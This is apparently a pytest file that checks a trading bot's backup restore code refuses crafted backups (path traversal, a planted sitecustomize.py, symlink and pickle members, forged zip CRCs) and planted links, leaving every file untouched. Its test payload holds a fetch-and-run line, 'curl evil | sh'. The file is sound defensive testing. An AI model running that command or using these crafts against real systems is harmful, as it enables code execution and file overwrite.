"""Crafted backups and planted links: refused before a byte is written, by verify too.

Every case takes a real backup, changes it as an attacker would (recomputing every size
and checksum), and compares a snapshot of the whole test folder -- source, backup,
target and an "outside" folder -- before and after.
"""

from __future__ import annotations

import os
import sqlite3
import stat
import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from app.backup import apply
from app.backup.create import BackupResult
from app.backup.layout import BackupPaths
from app.backup.restore import restore_backup, verify_backup
from app.errors import BackupError
from tests.unit.backup.builders import (
    add_file,
    add_member,
    edit_manifest,
    paths_for,
    reseal,
    snapshot,
)

PAYLOAD = b"import os\nos.system('curl evil | sh')\n"


def _sqlite_bytes(tmp: Path) -> bytes:
    path = tmp / "craft.sqlite"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE trades (id INTEGER PRIMARY KEY)")
    conn.close()
    return path.read_bytes()


def _case_twice(backup: Path) -> None:
    def change(document: dict[str, object]) -> None:
        files = document["files"]
        assert isinstance(files, list)
        [entry] = [e for e in files if e["component"] == "params"]
        files.append({**entry, "path": "params/MA_CROSSOVER.json", "target": "MA_CROSSOVER.json"})

    (backup / "params" / "MA_CROSSOVER.json").write_bytes(
        (backup / "params" / "ma_crossover.json").read_bytes()
    )
    edit_manifest(backup, change)


def _patch_last_member(backup: Path, offset: int, value: int) -> None:
    """Overwrite a 4-byte field of logs.zip's last central header, then reseal."""
    archive = backup / "logs.zip"
    data = bytearray(archive.read_bytes())
    header = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, header + offset, value)
    archive.write_bytes(bytes(data))
    reseal(backup)


CRAFTS: dict[str, tuple[Callable[[Path], object], str]] = {
    "python file as params": (
        lambda b: add_file(b, "params", "file", "Evil.py", PAYLOAD),
        "is not one of the params part's files",
    ),
    "params escaping to strategies": (
        lambda b: add_file(b, "params", "file", "../strategies/Evil.py", PAYLOAD),
        "contains '..'",
    ),
    "params in a subfolder": (
        lambda b: add_file(b, "params", "file", "sub/Evil.json", b"{}"),
        "is nested deeper than 0 folder",
    ),
    "trade database into strategies": (
        lambda b: add_file(b, "trades", "sqlite", "strategies/tradesv3.sqlite", _sqlite_bytes(b)),
        "lies in strategies/",
    ),
    "python file as trade database": (
        lambda b: add_file(b, "trades", "sqlite", "tradesv3.py", _sqlite_bytes(b)),
        "is not one of the trades part's files",
    ),
    "python member in logs": (
        lambda b: add_member(b, "logs.zip", "sitecustomize.py", PAYLOAD),
        "is not one of the logs part's files",
    ),
    "member escaping the logs folder": (
        lambda b: add_member(b, "logs.zip", "../strategies/Evil.py", PAYLOAD),
        "contains '..'",
    ),
    "dot member": (lambda b: add_member(b, "state.zip", "./", b""), "normal form"),
    "pickle in backtest results": (
        lambda b: add_member(b, "backtest_results.zip", "x_signals.pkl", b"\x80\x04"),
        "is not one of the backtests part's files",
    ),
    "slot lock in state": (
        lambda b: add_member(b, "state.zip", "running/x.json", b"{}"),
        "is a concurrency slot lock",
    ),
    "link member": (
        lambda b: add_member(b, "logs.zip", "l.log", b"/etc", stat.S_IFLNK | 0o777),
        "is a symbolic link",
    ),
    "entry at a foreign path": (
        lambda b: edit_manifest(b, lambda d: d["files"][-1].update(path="state.zip")),
        "params files are kept at",
    ),
    "targets differing by case": (_case_twice, "the same file twice"),
}


@pytest.mark.parametrize("craft", sorted(CRAFTS))
def test_restore_when_backup_crafted_then_refused_and_nothing_written(
    backup: BackupResult, target: BackupPaths, tmp_path: Path, craft: str
) -> None:
    """Each crafted backup is refused by verify and by restore; no file anywhere changes."""
    change, message = CRAFTS[craft]
    change(backup.path)
    before = snapshot(tmp_path)
    with pytest.raises(BackupError, match=message):
        verify_backup(backup.path)
    with pytest.raises(BackupError, match=message):
        restore_backup(backup.path, target)
    assert snapshot(tmp_path) == before


def test_restore_when_params_file_not_json_object_then_refused(
    backup: BackupResult, target: BackupPaths, tmp_path: Path
) -> None:
    """A parameter file must be what Freqtrade reads: a JSON object."""
    (backup.path / "params" / "ma_crossover.json").write_bytes(PAYLOAD)
    reseal(backup.path)
    before = snapshot(tmp_path)
    with pytest.raises(BackupError, match="is not a JSON object, so not a Freqtrade parameter"):
        restore_backup(backup.path, target)
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize(
    ("offset", "value", "message"),
    [(16, 0xDEADBEEF, "Bad CRC-32"), (24, 4096, "failed|shorter than declared")],
)
def test_restore_when_member_lies_while_staging_then_everything_removed_again(
    backup: BackupResult,
    target: BackupPaths,
    tmp_path: Path,
    offset: int,
    value: int,
    message: str,
) -> None:
    """A wrong CRC or a declared size beyond the real data fails during staging: no temp
    file and no new folder is left behind."""
    _patch_last_member(backup.path, offset, value)
    before = snapshot(tmp_path)
    with pytest.raises(BackupError, match=message):
        restore_backup(backup.path, target)
    assert snapshot(tmp_path) == before


def test_restore_when_filesystem_lacks_room_then_refused(
    backup: BackupResult, target: BackupPaths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Declared sizes are added up per filesystem before anything is written."""
    monkeypatch.setattr(apply, "FREE_SPACE_RESERVE", 1 << 62)  # as if the disk were full
    before = snapshot(tmp_path)
    with pytest.raises(BackupError, match=r"restoring needs .* MB are free"):
        restore_backup(backup.path, target)
    assert snapshot(tmp_path) == before


def _link(path: Path, to: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(to, target_is_directory=to.is_dir())


@pytest.mark.parametrize(
    ("planted", "only", "message"),
    [
        ("user_data/backtest_results", "backtests", "through the symbolic link"),
        ("user_data/logs/incidents", "logs", "through the symbolic link"),
        ("user_data/state", "state", "through the symbolic link"),
        ("user_data/strategies", "params", "through the symbolic link"),
        ("user_data/registry", "registry", "through the symbolic link"),
        ("user_data/live", "trades", "through the symbolic link"),
        ("user_data/strategies/ma_crossover.json", "params", "is a symbolic link; a restore never"),
        ("user_data/tradesv3.dryrun.sqlite-wal", "trades", "is a symbolic link; a restore never"),
    ],
)
def test_restore_when_link_planted_then_refused_and_outside_untouched(
    backup: BackupResult, target: BackupPaths, tmp_path: Path, planted: str, only: str, message: str
) -> None:
    """A link anywhere on a destination's way, or as the destination, is never written through."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.json").write_text("keep")
    to = outside / "victim.json" if "." in Path(planted).name else outside
    _link(target.user_data.parent / planted, to)
    before = snapshot(tmp_path)
    with pytest.raises(BackupError, match=message):
        restore_backup(backup.path, target, only=[only], overwrite=True)
    assert snapshot(tmp_path) == before


def test_restore_when_user_data_itself_is_a_link_then_refused(
    backup: BackupResult, tmp_path: Path
) -> None:
    """user_data is walked like every other folder: a link there is refused too."""
    real = tmp_path / "real_user_data"
    real.mkdir()
    (tmp_path / "linked").symlink_to(real, target_is_directory=True)
    before = snapshot(tmp_path)
    with pytest.raises(BackupError, match=r"through the symbolic link .*linked"):
        restore_backup(backup.path, paths_for(tmp_path / "linked"))
    assert snapshot(tmp_path) == before


def test_restore_when_destination_is_a_fifo_then_refused(
    backup: BackupResult, target: BackupPaths, tmp_path: Path
) -> None:
    """A special file at a destination is neither opened nor replaced."""
    (target.user_data / "logs").mkdir()
    os.mkfifo(target.user_data / "logs" / "freqtrade.log")
    before = snapshot(tmp_path)
    with pytest.raises(BackupError, match="refusing to restore over the special file"):
        restore_backup(backup.path, target, only=["logs"], overwrite=True)
    assert snapshot(tmp_path) == before
